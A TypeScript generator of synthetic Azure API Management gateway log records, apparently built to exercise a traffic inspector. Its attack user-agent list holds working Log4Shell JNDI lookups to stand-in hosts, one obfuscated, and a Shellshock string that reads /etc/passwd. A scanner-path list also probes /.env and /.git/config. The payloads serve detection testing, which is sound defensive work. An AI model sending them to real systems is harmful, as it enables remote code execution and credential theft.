/**
 * Synthetic APIM GatewayLogs records shaped like production traffic: Zipf-popular endpoints and
 * clients, realistic field sizes (about 1.2 KB of JSON a record), query strings, User-Agent and
 * Accept headers, a few unmatched scanner requests and a small share of attack User-Agents.
 */
import { seededRandom, zipfSampler } from "./seededRandom.js";

export interface TrafficShape {
  endpointCount: number;
  clientCount: number;
  /** Share of requests, 0..1, whose User-Agent carries an exploit the inspector should find. */
  attackShare: number;
  seed: number;
}

export const DEFAULT_TRAFFIC_SHAPE: Readonly<TrafficShape> = Object.freeze({
  endpointCount: 200,
  clientCount: 20_000,
  attackShare: 0.0005,
  seed: 20240501,
});

export interface SyntheticTraffic {
  /** One GatewayLogs record as an Azure Monitor diagnostic setting streams it to Event Hubs. */
  record(timeMs: number): Record<string, unknown>;
}

interface EndpointShape {
  apiId: string;
  operationId: string;
  method: string;
  pathBefore: string;
  idKind: "none" | "int" | "uuid";
  pathAfter: string;
  queryNames: string[];
}

interface ClientShape {
  ip: string;
  userAgent: string;
  subscriptionId: string;
  userId: string;
}

const API_NAMES = [
  "orders",
  "customers",
  "catalog",
  "payments",
  "shipping",
  "inventory",
  "accounts",
  "search",
  "reviews",
  "carts",
  "invoices",
  "users",
  "notifications",
  "pricing",
  "loyalty",
  "returns",
  "stores",
  "recommendations",
  "identity",
  "reports",
];

const OPERATIONS: ReadonlyArray<[string, string, EndpointShape["idKind"], string]> = [
  ["list", "GET", "none", ""],
  ["get", "GET", "int", ""],
  ["create", "POST", "none", ""],
  ["update", "PUT", "int", ""],
  ["delete", "DELETE", "int", ""],
  ["search", "GET", "none", "/search"],
  ["history", "GET", "uuid", "/history"],
  ["status", "GET", "uuid", "/status"],
  ["export", "POST", "none", "/export"],
  ["summary", "GET", "int", "/summary"],
];

const QUERY_NAMES = ["page", "pageSize", "sort", "include", "fields", "since", "q", "locale"];

const STATUS_WEIGHTS: ReadonlyArray<[number, number]> = [
  [200, 0.86],
  [201, 0.02],
  [204, 0.015],
  [304, 0.02],
  [400, 0.02],
  [401, 0.02],
  [403, 0.005],
  [404, 0.025],
  [429, 0.005],
  [500, 0.007],
  [503, 0.003],
];

const USER_AGENTS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
  "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
  "okhttp/4.12.0",
  "python-requests/2.31.0",
  "curl/8.5.0",
  "Go-http-client/2.0",
  "Apache-HttpClient/4.5.14 (Java/17.0.10)",
  "PostmanRuntime/7.37.3",
  "axios/1.6.8",
  "Contoso-Mobile/5.12.1 (Android 14; Pixel 8)",
];

const ATTACK_USER_AGENTS = [
  "${jndi:ldap://198.51.100.23:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}",
  "() { :; }; echo; /bin/bash -c 'cat /etc/passwd'",
  "sqlmap/1.8.3#stable (https://sqlmap.org)",
  "Mozilla/5.0 ${${lower:j}ndi:${lower:r}mi://203.0.113.7/a}",
];

const SCANNER_PATHS = ["/.env", "/wp-login.php", "/admin/config.php", "/.git/config", "/actuator"];

const RESOURCE_ID =
  "/SUBSCRIPTIONS/6F1C3A52-9B0D-4E27-8C11-2D7A5E0F4B93/RESOURCEGROUPS/RG-API-PROD/PROVIDERS/MICROSOFT.APIMANAGEMENT/SERVICE/CONTOSO-APIM-PROD";

/** A generator of records with the given shape; the same seed gives the same records. */
export function createSyntheticTraffic(
  shape: TrafficShape = DEFAULT_TRAFFIC_SHAPE,
): SyntheticTraffic {
  const random = seededRandom(shape.seed);
  const endpoints = Array.from({ length: shape.endpointCount }, (_, index) => endpointAt(index));
  const clients = Array.from({ length: shape.clientCount }, () => randomClient(random));
  const pickEndpoint = zipfSampler(endpoints.length, 1, random);
  const pickClient = zipfSampler(clients.length, 1, random);

  return {
    record(timeMs) {
      const client = clients[pickClient()]!;
      const userAgent =
        random() < shape.attackShare ? pick(ATTACK_USER_AGENTS, random) : client.userAgent;
      if (random() < 0.01) return unmatchedRecord(timeMs, client, userAgent, random);
      return matchedRecord(timeMs, endpoints[pickEndpoint()]!, client, userAgent, random);
    },
  };
}

function endpointAt(index: number): EndpointShape {
  const api = API_NAMES[index % API_NAMES.length]!;
  const version = Math.floor(index / (API_NAMES.length * OPERATIONS.length)) + 1;
  const [operation, method, idKind, pathAfter] =
    OPERATIONS[Math.floor(index / API_NAMES.length) % OPERATIONS.length]!;
  return {
    apiId: version === 1 ? api : `${api}-v${version}`,
    operationId: `${operation}-${api}`,
    method,
    pathBefore: `/${api}/v${version}/${api}`,
    idKind,
    pathAfter,
    queryNames: method === "GET" ? QUERY_NAMES.slice(0, 1 + (index % 5)) : [],
  };
}

function randomClient(random: () => number): ClientShape {
  const ip =
    random() < 0.05
      ? `2001:db8:${hex(random, 4)}:${hex(random, 4)}::${hex(random, 3)}`
      : `${20 + Math.floor(random() * 180)}.${byte(random)}.${byte(random)}.${byte(random)}`;
  return {
    ip,
    userAgent: pick(USER_AGENTS, random),
    subscriptionId: `partner-${Math.floor(random() * 300)}`,
    userId: random() < 0.4 ? `user-${Math.floor(random() * 100_000)}` : "",
  };
}

function matchedRecord(
  timeMs: number,
  endpoint: EndpointShape,
  client: ClientShape,
  userAgent: string,
  random: () => number,
): Record<string, unknown> {
  const path = `${endpoint.pathBefore}${idSegment(endpoint.idKind, random)}${endpoint.pathAfter}`;
  const query = endpoint.queryNames.map((name) => `${name}=${queryValue(name, random)}`).join("&");
  const target = query === "" ? path : `${path}?${query}`;
  const status = randomStatus(random);
  const durationMs = 4 + Math.floor(random() ** 4 * 1_800);
  return gatewayRecord(
    timeMs,
    client,
    userAgent,
    {
      method: endpoint.method,
      url: `https://contoso-apim-prod.azure-api.net${target}`,
      backendResponseCode: status,
      responseCode: status,
      responseSize: status === 204 || status === 304 ? 0 : 180 + Math.floor(random() ** 3 * 60_000),
      cache: "none",
      backendTime: Math.max(1, durationMs - 3),
      requestSize:
        endpoint.method === "GET"
          ? 420 + Math.floor(random() * 400)
          : 900 + Math.floor(random() * 6_000),
      apiId: endpoint.apiId,
      operationId: endpoint.operationId,
      apimSubscriptionId: client.subscriptionId,
      productId: "unlimited",
      userId: client.userId,
      clientTime: 1 + Math.floor(random() * 5),
      clientProtocol: "HTTP/1.1",
      backendProtocol: "HTTP/1.1",
      apiRevision: "1",
      clientTlsVersion: "1.2",
      backendMethod: endpoint.method,
      backendUrl: `https://${endpoint.apiId}.backend.contoso.internal${target}`,
    },
    durationMs,
  );
}

/** A request APIM matched to no operation: a 404 with empty API and operation ids. */
function unmatchedRecord(
  timeMs: number,
  client: ClientShape,
  userAgent: string,
  random: () => number,
): Record<string, unknown> {
  const path =
    random() < 0.5 ? pick(SCANNER_PATHS, random) : `/api/v2/items/${Math.floor(random() * 1e6)}`;
  return gatewayRecord(
    timeMs,
    client,
    userAgent,
    {
      method: "GET",
      url: `https://contoso-apim-prod.azure-api.net${path}`,
      responseCode: 404,
      responseSize: 120,
      cache: "none",
      requestSize: 380,
      apiId: "",
      operationId: "",
      clientProtocol: "HTTP/1.1",
      clientTlsVersion: "1.2",
      lastError: {
        source: "configuration",
        reason: "OperationNotFound",
        message: "Unable to match incoming request to an operation.",
      },
    },
    1,
  );
}

function gatewayRecord(
  timeMs: number,
  client: ClientShape,
  userAgent: string,
  properties: Record<string, unknown>,
  durationMs: number,
): Record<string, unknown> {
  const status = properties.responseCode as number;
  return {
    DeploymentVersion: "0.45.21418.0",
    Level: 4,
    isRequestSuccess: status < 400,
    time: apimTime(timeMs),
    operationName: "Microsoft.ApiManagement/GatewayLogs",
    category: "GatewayLogs",
    durationMs,
    callerIpAddress: client.ip,
    correlationId: uuidFrom(timeMs, status, durationMs),
    location: "West Europe",
    properties: {
      ...properties,
      requestHeaders: {
        "User-Agent": userAgent,
        Accept: "application/json",
      },
    },
    resourceId: RESOURCE_ID,
  };
}

/** APIM writes seven fractional digits: `2024-05-02T10:15:31.1234567Z`. */
function apimTime(timeMs: number): string {
  return `${new Date(timeMs).toISOString().slice(0, 23)}${String(timeMs % 10_000).padStart(4, "0")}Z`;
}

function idSegment(kind: EndpointShape["idKind"], random: () => number): string {
  if (kind === "int") return `/${100_000 + Math.floor(random() * 900_000)}`;
  if (kind === "uuid")
    return `/${hex(random, 8)}-${hex(random, 4)}-4${hex(random, 3)}-a${hex(random, 3)}-${hex(random, 12)}`;
  return "";
}

function queryValue(name: string, random: () => number): string {
  if (name === "page") return String(1 + Math.floor(random() * 20));
  if (name === "pageSize") return "50";
  if (name === "since") return "2024-04-01T00%3A00%3A00Z";
  if (name === "q") return `blue%20widget%20${Math.floor(random() * 100)}`;
  if (name === "locale") return "en-GB";
  return name === "sort" ? "-createdAt" : "items,customer";
}

function randomStatus(random: () => number): number {
  let roll = random();
  for (const [status, weight] of STATUS_WEIGHTS) {
    roll -= weight;
    if (roll < 0) return status;
  }
  return 200;
}

function uuidFrom(timeMs: number, status: number, durationMs: number): string {
  const seed = (timeMs ^ (status << 20) ^ durationMs) >>> 0;
  const random = seededRandom(seed);
  return `${hex(random, 8)}-${hex(random, 4)}-4${hex(random, 3)}-8${hex(random, 3)}-${hex(random, 12)}`;
}

function hex(random: () => number, digits: number): string {
  let text = "";
  for (let index = 0; index < digits; index++) text += Math.floor(random() * 16).toString(16);
  return text;
}

function byte(random: () => number): number {
  return Math.floor(random() * 256);
}

function pick<T>(items: readonly T[], random: () => number): T {
  return items[Math.floor(random() * items.length)]!;
}
